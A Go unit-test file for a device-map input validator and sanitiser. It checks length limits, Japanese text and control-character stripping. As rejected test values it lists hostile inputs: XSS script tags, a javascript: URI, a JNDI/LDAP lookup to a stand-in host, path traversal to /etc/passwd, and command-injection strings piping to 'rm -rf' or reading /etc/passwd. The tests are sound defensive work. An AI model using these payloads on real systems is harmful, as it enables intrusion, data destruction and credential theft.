package devicemap

import (
	"strings"
	"testing"
)

func TestValidate(t *testing.T) {
	tests := []struct {
		name  string
		input string
		want  bool
	}{
		{"plain ascii", "switch", true},
		{"japanese", "スイッチが壊れた", true},
		{"empty", "", true},
		{"at max length", strings.Repeat("あ", 1000), true},
		{"over max length", strings.Repeat("あ", 1001), false},
		{"script tag", "<script>alert(1)</script>", false},
		{"script tag upper", "<SCRIPT>alert(1)</SCRIPT>", false},
		{"javascript uri", "javascript:alert('x')", false},
		{"template injection", "${jndi:ldap://evil}", false},
		{"path traversal", "../../../etc/passwd", false},
		{"path traversal backslash", "..\\windows\\system32", false},
		{"pipe command", "switch | rm -rf", false},
		{"semicolon command", "switch; cat /etc/passwd", false},
		{"lone pipe", "a |", true},
		{"lone semicolon", "b ;", true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := Validate(tt.input); got != tt.want {
				t.Errorf("Validate(%q) = %v, want %v", tt.input, got, tt.want)
			}
		})
	}
}

func TestValidateCountsRunes(t *testing.T) {
	// 1000 three-byte runes is 3000 bytes but still within the cap.
	if !Validate(strings.Repeat("ス", 1000)) {
		t.Error("Validate rejected 1000-rune input")
	}
}

func TestSanitize(t *testing.T) {
	tests := []struct {
		input, want string
	}{
		{"switch", "switch"},
		{"swi\x00tch", "switch"},
		{"swi\ttch", "switch"},
		{"スイッチ\x1f", "スイッチ"},
		{"a\x7fb", "ab"},
		{"ab", "ab"}, // C1 range
		{"", ""},
	}
	for _, tt := range tests {
		if got := Sanitize(tt.input); got != tt.want {
			t.Errorf("Sanitize(%q) = %q, want %q", tt.input, got, tt.want)
		}
	}
}
